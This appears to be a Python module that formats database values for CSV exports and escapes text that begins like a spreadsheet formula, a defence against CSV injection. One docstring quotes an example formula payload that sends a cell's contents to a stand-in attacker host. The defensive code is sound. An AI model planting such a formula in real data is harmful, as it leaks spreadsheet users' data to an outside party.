"""How the CSV exports write values as text: by their column's kind, a batch at a time.

Values come untyped from the database (see :func:`.streaming.raw_select`) and are written the
same way from SQLite and PostgreSQL: ISO dates, UTC timestamps ``2026-03-31T14:05:00Z``,
dashed UUIDs, decimals without trailing zeros, ``true``/``false``, "" for NULL. The rows'
values are then joined with commas; Python's ``csv`` writer writes only the rows that need
quoting, so the bytes are the ones it would write.

Text never leaves as a live spreadsheet formula: a text value starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written with a ``'`` in front (:func:`safe_text`,
OWASP's rule against CSV injection), in every CSV and XLSX export. Numbers are not text: a
negative quantity or coordinate stays a number.
"""

from __future__ import annotations

import io
from collections.abc import Callable, Sequence
from typing import Any

_EMPTY = {None: ""}.get  # _EMPTY(v, v): "" for NULL, else the value itself
_BOOL = {"": "", 0: "false", 1: "true"}.__getitem__  # SQLite gives 0/1, PostgreSQL False/True


#: What a spreadsheet reads as the start of a formula (OWASP, "CSV injection").
FORMULA_STARTS = frozenset("=+-@\t\r")


def safe_text(text: str) -> str:
    """``text`` as a spreadsheet shows it and never runs it: a ``'`` in front when it starts
    like a formula. A family name typed on any tablet, or pushed by any node, reaches the
    coordinators' spreadsheets: ``=HYPERLINK("http://evil.example/?"&A2)`` must stay words.

    This is the one implementation of the rule; every export writes text through it.
    """
    return "'" + text if text[:1] in FORMULA_STARTS else text


def _safe_texts(texts: list[str]) -> list[str]:
    """:func:`safe_text` of a column's values, at the cost of a slice and a set lookup each."""
    return ["'" + t if t[:1] in FORMULA_STARTS else t for t in texts]


def _uuid_text(value: Any) -> str:
    text = str(value)
    if len(text) == 32:  # SQLite keeps UUIDs as 32 hex digits
        return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"
    return text


def _date_text(value: Any) -> str:
    return value[:10] if type(value) is str else value.isoformat()


def decimal_text(value: Any) -> str:
    """A number as text without trailing zeros: ``12.5``, ``250``, never ``-0``."""
    if type(value) is int:
        return str(value)
    # SQLite computes in binary floating point: six decimals undo its 166.66000000000003.
    text = f"{value:.6f}" if isinstance(value, float) else str(value)
    if "." in text and "e" not in text and "E" not in text:
        text = text.rstrip("0").rstrip(".")
    return "0" if text in ("-0", "") else text


def _timestamp_text(value: Any) -> str:
    # Stored as naive UTC on both databases: SQLite gives text, PostgreSQL a datetime.
    if type(value) is str:
        return f"{value[:10]}T{value[11:19]}Z"
    return value.strftime("%Y-%m-%dT%H:%M:%SZ")


def media_path(value: Any) -> str:
    """The link to an attachment's file, from its id (``/media/<id>``)."""
    return "/media/" + _uuid_text(value)


#: How a raw value (not NULL) of each kind of column is written; text and integers as they come.
CSV_TEXT: dict[str, Callable[[Any], str]] = {
    "uuid": _uuid_text,
    "media_link": media_path,
    "date": _date_text,
    "datetime": _timestamp_text,
    "decimal": decimal_text,
}


def _column_text(kind: str, values: Sequence[Any]) -> list[str]:
    """The CSV text of a column's raw values, "" for NULL, through C functions where one will
    do (the text, integer and boolean columns); text made safe (:func:`safe_text`)."""
    if kind == "bool":
        return list(map(_BOOL, map(_EMPTY, values, values)))
    if kind in CSV_TEXT:
        write = CSV_TEXT[kind]
        return ["" if v is None else write(v) for v in values]
    texts = list(map(str, map(_EMPTY, values, values)))
    return _safe_texts(texts) if kind == "text" else texts


def rows_text(kinds: Sequence[str], rows: Sequence[Sequence[Any]]) -> list[tuple[str, ...]]:
    """The values of ``rows`` as text, by the ``kinds`` of their columns, a column at a time."""
    if not rows:
        return []
    columns = zip(*rows, strict=True)
    return list(
        zip(*[_column_text(k, v) for k, v in zip(kinds, columns, strict=True)], strict=True)
    )


def csv_text(rows: Sequence[Sequence[str]], writer: Any, out: io.StringIO) -> str:
    """The CSV lines of ``rows`` (their values as text), as ``csv.writer`` writes them.

    The values of each row are joined with commas. When the batch's text holds no more commas
    than separators, no quote and no line break but the lines' ends, no value needed quoting
    (nearly always); else the rows whose values need it are written by ``writer`` (which
    writes into ``out``). Joining is ten times faster than ``csv.writer``.
    """
    separators = len(rows[0]) - 1 if rows else 0
    lines = list(map(",".join, rows))
    lines.append("")
    text = "\r\n".join(lines)
    count = len(rows)
    if (
        text.count(",") == separators * count
        and text.count("\n") == count
        and text.count("\r") == count
        and '"' not in text
        and separators  # csv quotes a row of one empty value
    ):
        return text
    for i, values in enumerate(rows):
        line = lines[i]
        if (
            line.count(",") != separators
            or '"' in line
            or "\n" in line
            or "\r" in line
            or not separators
        ):
            out.seek(0)
            out.truncate()
            writer.writerow(values)
            lines[i] = out.getvalue()[:-2]
    return "\r\n".join(lines)
